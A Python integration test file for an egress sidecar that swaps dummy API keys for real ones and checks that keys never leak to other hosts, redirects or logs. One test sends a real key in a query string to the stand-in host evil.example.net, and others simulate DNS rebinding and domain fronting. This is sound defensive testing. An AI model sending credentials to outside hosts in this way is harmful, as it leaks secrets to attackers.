"""S7 through the real sidecar: the gateway holds no key, and cannot get one back out.

Gateway clients (openai and anthropic SDKs, httpx) send dummy keys; the fake provider
must see only the real key, in its provider's header form, and only on its provider's
hosts. Keys live in a directory laid out the way Kubernetes mounts a Secret.
"""

from __future__ import annotations

import json
import ssl
import threading
import time

import anthropic
import httpx
import openai
import pytest

from tests.integration.test_explicit_proxy import connect_status
from tests.support.fakes import FakeProvider
from tests.support.keys import KEYS, LEAKED_GATEWAY_KEY, assert_not_in_outputs
from tests.support.sidecar import SidecarProcess

pytestmark = pytest.mark.integration


def http(sidecar: SidecarProcess, **kwargs) -> httpx.Client:
    return httpx.Client(
        proxy=sidecar.proxy_url,
        verify=ssl.create_default_context(cafile=sidecar.ca_cert),
        timeout=15,
        **kwargs,
    )


def last(provider: FakeProvider, mark: int):
    seen = provider.received[mark:]
    assert len(seen) == 1, [r.path for r in seen]
    return seen[0]


def test_openai_sdk_dummy_key_replaced_by_real_key(keyed, provider):
    mark = len(provider.received)
    client = openai.OpenAI(
        api_key="sk-dummy-gateway-key",
        base_url=f"https://api.openai.com:{provider.port}/v1",
        http_client=http(keyed),
        max_retries=0,
    )
    client.chat.completions.create(model="m", messages=[{"role": "user", "content": "hi"}])
    got = last(provider, mark)
    assert got.headers["authorization"] == f"Bearer {KEYS['openai']}"
    assert "sk-dummy-gateway-key" not in json.dumps(got.headers)
    assert keyed.wait_for_decision(provider="openai", path="/v1/chat/completions")["decision"] == (
        "allow"
    )


def test_reverse_listener_injects_too(keyed, provider):
    mark = len(provider.received)
    client = openai.OpenAI(
        api_key="dummy", base_url=keyed.reverse_url("openai") + "/v1", max_retries=0
    )
    client.models.list()
    assert last(provider, mark).headers["authorization"] == f"Bearer {KEYS['openai']}"


def test_anthropic_sdk_dummy_key_replaced_in_x_api_key(keyed, provider):
    mark = len(provider.received)
    client = anthropic.Anthropic(
        api_key="dummy",
        base_url=f"https://api.anthropic.com:{provider.port}",
        http_client=anthropic.DefaultHttpxClient(
            proxy=keyed.proxy_url, verify=ssl.create_default_context(cafile=keyed.ca_cert)
        ),
        max_retries=0,
    )
    client.messages.create(model="c", max_tokens=5, messages=[{"role": "user", "content": "x"}])
    got = last(provider, mark)
    assert got.headers["x-api-key"] == KEYS["anthropic"]
    assert "authorization" not in got.headers


def test_gemini_header_and_query_key_replaced(keyed, provider):
    mark = len(provider.received)
    with http(keyed) as c:
        c.post(
            f"https://generativelanguage.googleapis.com:{provider.port}"
            "/v1beta/models/g:generateContent?key=dummy-gateway&alt=json",
            headers={"x-goog-api-key": "dummy-gateway"},
            json={},
        )
    got = last(provider, mark)
    assert got.headers["x-goog-api-key"] == KEYS["gemini"]
    assert got.query == "alt=json"  # the gateway's key= parameter is gone


def test_azure_api_key_form(keyed, provider):
    mark = len(provider.received)
    with http(keyed) as c:
        c.post(
            f"https://myres.openai.azure.com:{provider.port}/openai/deployments/d/chat/completions",
            headers={"api-key": "dummy"},
            json={},
        )
    assert last(provider, mark).headers["api-key"] == KEYS["azure"]


def test_key_never_sent_to_allow_entry(keyed, provider):
    mark = len(provider.received)
    with http(keyed) as c:
        c.get(
            f"https://unlisted.example.com:{provider.port}/telemetry",
            headers={"authorization": "Bearer dummy"},
        )
    got = last(provider, mark)
    # The gateway's own header for that service passes untouched; none of our keys is added.
    assert got.headers["authorization"] == "Bearer dummy"
    assert not any(key in json.dumps(got.headers) for key in KEYS.values())


def test_key_not_sent_on_redirect_to_another_host(keyed, provider):
    mark = len(provider.received)
    target = f"https://unlisted.example.com:{provider.port}/landing"
    with http(keyed, follow_redirects=True) as c:
        response = c.get(
            f"https://api.openai.com:{provider.port}/v1/redirect",
            params={"to": target},
            headers={"authorization": "Bearer dummy"},
        )
    assert response.status_code == 200
    first, second = provider.received[mark:]
    assert first.headers["authorization"] == f"Bearer {KEYS['openai']}"
    assert second.path == "/landing"
    assert not any(key in json.dumps(second.headers) for key in KEYS.values())


@pytest.mark.parametrize(
    ("attack", "authority", "host_header", "reason"),
    [
        ("dns_rebinding", "rebind.openai.com", None, "private_address"),
        ("domain_fronting_host_header", "api.openai.com", "api.anthropic.com", "host_mismatch"),
    ],
)
def test_key_not_sent_when_s3_or_s5_fails(keyed, provider, attack, authority, host_header, reason):
    mark = len(provider.received)
    with http(keyed) as c:
        try:
            response = c.get(
                f"https://{authority}:{provider.port}/v1/models",
                headers={"host": host_header} if host_header else {},
            )
            assert response.status_code == 403, attack
        except httpx.ProxyError:
            pass  # refused at CONNECT
    assert provider.received[mark:] == []
    assert keyed.wait_for_decision(reason=reason)["decision"] == "block"


def test_gateway_holding_a_real_key_is_refused_and_alerted(keyed, provider):
    mark = len(provider.received)
    with http(keyed) as c:
        response = c.get(
            f"https://api.openai.com:{provider.port}/v1/models",
            headers={"authorization": f"Bearer {LEAKED_GATEWAY_KEY}"},
        )
    assert response.status_code == 403
    assert response.json()["reason"] == "gateway_holds_credential"
    assert LEAKED_GATEWAY_KEY not in response.text
    assert provider.received[mark:] == []
    decision = keyed.wait_for_decision(reason="gateway_holds_credential")
    assert decision["decision"] == "block"
    assert LEAKED_GATEWAY_KEY not in json.dumps(decision)
    deadline = time.monotonic() + 5
    while 'egress_sidecar_alerts_refusals_total{severity="critical"}' not in keyed.metrics():
        assert time.monotonic() < deadline, "refusal never reached the alert pipeline"
        time.sleep(0.1)


def test_missing_secret_refuses_with_credential_unavailable(keyed, provider):
    mark = len(provider.received)
    with http(keyed) as c:
        response = c.get(f"https://api.mistral.ai:{provider.port}/v1/models")
    assert response.status_code == 503
    assert response.json()["reason"] == "credential_unavailable"
    assert provider.received[mark:] == []
    assert 'egress_sidecar_secret_available{secret="mistral"} 0.0' in keyed.metrics()


def test_reflected_key_is_redacted_in_header_body_and_split_stream(keyed, provider):
    key = KEYS["openai"]
    with http(keyed) as c:
        echoed = c.get(f"https://api.openai.com:{provider.port}/v1/reflect")
        with c.stream("GET", f"https://api.openai.com:{provider.port}/v1/reflect-stream") as s:
            chunks = list(s.iter_raw())
    assert key not in echoed.text
    assert key not in echoed.headers.get("x-echo-key", "")
    assert "[REDACTED]" in echoed.text
    streamed = b"".join(chunks)
    assert len(chunks) > 1
    assert key.encode() not in streamed
    assert b"[REDACTED]" in streamed
    assert b"[DONE]" in streamed  # the stream itself survived the redaction
    # The lines are written when each response ends; read them once both are there.
    deadline = time.monotonic() + 10
    reflected: list[dict] = []
    while len(reflected) < 2 and time.monotonic() < deadline:
        time.sleep(0.05)
        reflected = [d for d in keyed.decisions if d["reason"] == "credential_reflected"]
    assert len(reflected) >= 2
    assert all(d["decision"] == "block" for d in reflected)


def test_rotation_under_load(keyed, provider, secrets):
    """50 concurrent streams while the key is swapped the Kubernetes way 10 times: no
    failure, and every request carried a key that was current when the gateway sent it
    (a request started more than 1 s after a key was replaced never carries it)."""
    provider.stream_chunks, provider.stream_interval = 10, 0.02
    written: list[tuple[float, str]] = [(0.0, KEYS["openai"])]
    errors: list[BaseException] = []
    started: dict[str, float] = {}  # request id -> when the gateway sent it
    stop = threading.Event()
    mark = len(provider.received)

    def gateway(worker: int) -> None:
        client = openai.OpenAI(
            api_key="dummy",
            base_url=f"https://api.openai.com:{provider.port}/v1",
            http_client=http(keyed),
            max_retries=0,
        )
        n = 0
        while not stop.is_set() and n < 20:
            n += 1
            started[f"rot-{worker}-{n}"] = time.monotonic()
            try:
                chunks = list(
                    client.chat.completions.create(
                        model="m",
                        messages=[{"role": "user", "content": "hi"}],
                        stream=True,
                        user=f"rot-{worker}-{n}",
                    )
                )
                assert len(chunks) == provider.stream_chunks
            except BaseException as exc:  # collected, asserted below
                errors.append(exc)

    threads = [threading.Thread(target=gateway, args=(i,)) for i in range(50)]
    try:
        for t in threads:
            t.start()

        def flowing(count: int, timeout: float) -> None:
            """Wait (bounded) until `count` more requests reached the provider."""
            target = len(provider.received) + count
            deadline = time.monotonic() + timeout
            while len(provider.received) < target and time.monotonic() < deadline:
                time.sleep(0.02)

        flowing(50, 30)  # all 50 streams started, even on a loaded machine
        for i in range(10):
            time.sleep(0.3)
            flowing(5, 10)  # requests keep going between swaps
            value = f"sk-proj-rotated{i:02d}" + "Q" * 40
            secrets.swap({**KEYS, "openai": value})
            written.append((time.monotonic(), value))
        time.sleep(1.0)
    finally:
        stop.set()
        for t in threads:
            t.join(60)
        provider.stream_chunks, provider.stream_interval = 20, 0.05
    assert errors == []
    seen = [r for r in provider.received[mark:] if r.path == "/v1/chat/completions"]
    assert len(seen) >= 100
    validity = {
        value: (start, end)
        for (start, value), (end, _) in zip(
            written, [*written[1:], (float("inf"), "")], strict=True
        )
    }
    for request in seen:
        key = request.headers["authorization"].removeprefix("Bearer ")
        assert key in validity, "a key nobody wrote"
        written, replaced = validity[key]
        sent = started[json.loads(request.body)["user"]]
        assert written - 0.05 <= request.at, "a key used before it was written"
        assert sent <= replaced + 1.0, "a key still used more than 1 s after rotation"
    used = {r.headers["authorization"] for r in seen}
    assert len(used) >= 5  # rotations were picked up while requests kept flowing
    secrets.swap(dict(KEYS))


def test_no_key_in_any_output(keyed, provider):
    """After everything above: no key, nor its base64 form, anywhere the sidecar wrote."""
    with http(keyed) as c:
        c.get(f"https://api.openai.com:{provider.port}/v1/reflect")
        # Refused requests carrying a key in the path, query and headers.
        c.get(f"https://api.openai.com:{provider.port}/{KEYS['gemini']}?key={KEYS['openai']}")
        c.get(
            f"https://api.openai.com:{provider.port}/v1/models",
            headers={"x-api-key": KEYS["anthropic"]},
        )
        with pytest.raises(httpx.ProxyError):
            c.get("https://evil.example.net/?key=" + KEYS["openai"])
    assert_not_in_outputs(keyed, {f"{name} key": value for name, value in KEYS.items()})


def test_refused_connect_error_body_has_no_key(keyed):
    status, body = connect_status(keyed, "evil.example.net:443")
    assert status == 403
    for value in KEYS.values():
        assert value.encode() not in body


@pytest.mark.parametrize(
    "key",
    [LEAKED_GATEWAY_KEY, KEYS["anthropic"]],
    ids=["gateway-held key", "the sidecar's own key"],
)
def test_key_percent_encoded_in_the_path_is_not_written_to_the_decision_line(keyed, provider, key):
    """`%73k-proj-...` is `sk-proj-...` to anyone who reads the log: the decision's
    path is the request's as sent, so the key scrubber must see it decoded too."""
    import urllib.parse

    encoded = "%" + key[0].encode().hex() + key[1:]  # one character escaped
    mark = len(keyed.decisions)
    with http(keyed) as c:
        response = c.get(f"https://api.openai.com:{provider.port}/v1/models/{encoded}")
    assert response.status_code == 403  # request DLP reads the path decoded
    deadline = time.monotonic() + 10
    while not (lines := keyed.decisions[mark:]):
        assert time.monotonic() < deadline, "no decision line"
        time.sleep(0.05)
    assert lines[-1]["decision"] == "block"
    written = urllib.parse.unquote("".join(keyed.stdout_lines) + "".join(keyed.stderr_lines))
    assert key not in written
    assert key not in urllib.parse.unquote(keyed.metrics())
